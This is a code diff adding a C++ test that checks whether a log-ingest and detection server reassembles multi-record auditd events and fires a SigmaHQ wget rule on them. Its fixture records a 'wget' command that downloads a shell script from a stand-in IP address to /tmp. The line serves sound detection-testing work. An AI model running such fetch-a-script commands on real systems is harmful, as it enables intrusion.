@@ -4,6 +4,7 @@
 // API. Uses the project's own rules (rules/) so it needs no shared data.
 #include <fstream>
 #include <functional>
+#include <set>
 #include <thread>
 
 #include <arpa/inet.h>
@@ -355,6 +356,117 @@ TEST_F(SilentSourceIngestTest, AQuietSourceRaisesOneDetectionAndRecoversOnTheNex
     quiet = WaitQuiet(now_, silent);
     ASSERT_FALSE(quiet.is_null());
     EXPECT_EQ(SilentDetections().size(), 2u);
+}
+
+// Auditd writes one execution as several records (SYSCALL, EXECVE, CWD, EOE). Sent one per
+// syslog message over TCP and UDP, as lines of a tailed audit.log and as NDJSON lines, each
+// event is stored once, whole, so SigmaHQ's linux process_creation rule that needs the image
+// (SYSCALL) and the command line (EXECVE) together fires on it. Needs ../shared/data.
+class AuditdIngestTest : public ServeTest {
+protected:
+    void SetUp() override {
+        ServeTest::SetUp();
+        sigma_ = std::filesystem::path(VIGIL_SOURCE_DIR) /
+                 "../shared/data/sigma/rules/linux/process_creation";
+        if (!std::filesystem::is_directory(sigma_)) {
+            GTEST_SKIP() << "SigmaHQ rules not found at " << sigma_.string()
+                         << " (../shared/data is absent)";
+        }
+        {
+            std::ofstream cfg(dir_ / "vigil.yml", std::ios::app);
+            cfg << "\ningest:\n"
+                << "  rules: [" << sigma_.string() << "]\n"
+                << "  sources:\n"
+                << "    - {name: syslog-tcp, type: syslog-tcp, port: 0}\n"
+                << "    - {name: syslog-udp, type: syslog-udp, port: 0}\n"
+                << "    - name: audit-file\n"
+                << "      type: file\n"
+                << "      paths: [" << (dir_ / "tailed" / "audit.log").string() << "]\n";
+        }
+        std::filesystem::create_directories(dir_ / "tailed");
+        Restart();
+    }
+    // The records of one `wget -O /tmp/... URL` execution, serial `serial`.
+    static std::vector<std::string> Records(int serial) {
+        const std::string id = "msg=audit(1763712915.123:" + std::to_string(serial) + "): ";
+        return {"type=SYSCALL " + id + "arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=" +
+                    std::to_string(serial) + " uid=0 euid=0 comm=\"wget\" exe=\"/usr/bin/wget\"",
+                "type=EXECVE " + id + "argc=4 a0=\"wget\" a1=\"-O\" a2=\"/tmp/s" +
+                    std::to_string(serial) + ".sh\" a3=\"http://203.0.113.9/s.sh\"",
+                "type=CWD " + id + "cwd=\"/root\"", "type=EOE " + id};
+    }
+    std::filesystem::path sigma_;
+};
+
+TEST_F(AuditdIngestTest, RecordsOfOneEventAreStoredTogetherAndSigmaHQRulesFire) {
+    const std::string header = "<14>Nov 21 08:15:00 db01 audispd: ";
+    int fd = Connect(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
+    ASSERT_GE(fd, 0);
+    std::string tcp;
+    for (const auto& r : Records(101)) tcp += header + r + "\n";
+    ASSERT_EQ(::send(fd, tcp.data(), tcp.size(), MSG_NOSIGNAL), static_cast<ssize_t>(tcp.size()));
+    ::close(fd);
+    fd = Connect(app_->ingest_port("syslog-udp"), SOCK_DGRAM);
+    for (const auto& r : Records(102)) {
+        const std::string d = header + r;
+        ::send(fd, d.data(), d.size(), 0);
+    }
+    ::close(fd);
+    {
+        std::ofstream log(dir_ / "tailed" / "audit.log");
+        for (const auto& r : Records(103)) log << r << "\n";
+    }
+    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
+    HttpReply r =
+        Send("POST", "/api/v1/tokens",
+             json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
+             &manager);
+    ASSERT_EQ(r.status, 201) << r.body;
+    std::string ndjson;
+    for (const auto& rec : Records(104)) ndjson += rec + "\n";
+    const std::string raw =
+        "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n"
+        "Authorization: Bearer " +
+        Json(r)["token"].get<std::string>() +
+        "\r\nContent-Type: application/x-ndjson\r\nContent-Length: " +
+        std::to_string(ndjson.size()) + "\r\nConnection: close\r\n\r\n" + ndjson;
+    HttpReply intake = ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
+    ASSERT_EQ(intake.status, 202) << intake.body;
+    EXPECT_EQ(Json(intake)["accepted"], 1) << "four records, one event";
+
+    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
+    json events;
+    for (int i = 0; i < 200; ++i) {
+        if (app_->WaitIngestIdle(100ms)) {
+            HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=100", &analyst);
+            events = Json(s)["items"];
+            if (events.size() >= 4) break;
+        }
+        std::this_thread::sleep_for(50ms);
+    }
+    ASSERT_EQ(events.size(), 4u) << events.dump();
+    std::set<std::string> sources;
+    for (const auto& e : events) {
+        sources.insert(e["source"].get<std::string>());
+        const std::string message = e["message"].get<std::string>();
+        EXPECT_NE(message.find("type=SYSCALL"), std::string::npos) << message;
+        EXPECT_NE(message.find("type=EXECVE"), std::string::npos) << message;
+        EXPECT_NE(message.find("type=CWD"), std::string::npos) << message;
+    }
+    EXPECT_EQ(sources, (std::set<std::string>{"syslog-tcp", "syslog-udp", "audit-file", "http"}));
+
+    r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst);
+    ASSERT_EQ(r.status, 200) << r.body;
+    const json detections = Json(r);
+    std::set<std::string> fired_on;
+    for (const auto& d : detections["items"]) {
+        if (d["rule_title"].get<std::string>().find("Wget") == std::string::npos) continue;
+        ASSERT_EQ(d["event_ids"].size(), 1u);
+        for (const auto& e : events) {
+            if (e["id"] == d["event_ids"][0]) fired_on.insert(e["source"].get<std::string>());
+        }
+    }
+    EXPECT_EQ(fired_on, sources) << detections.dump();
 }
 
 }  // namespace
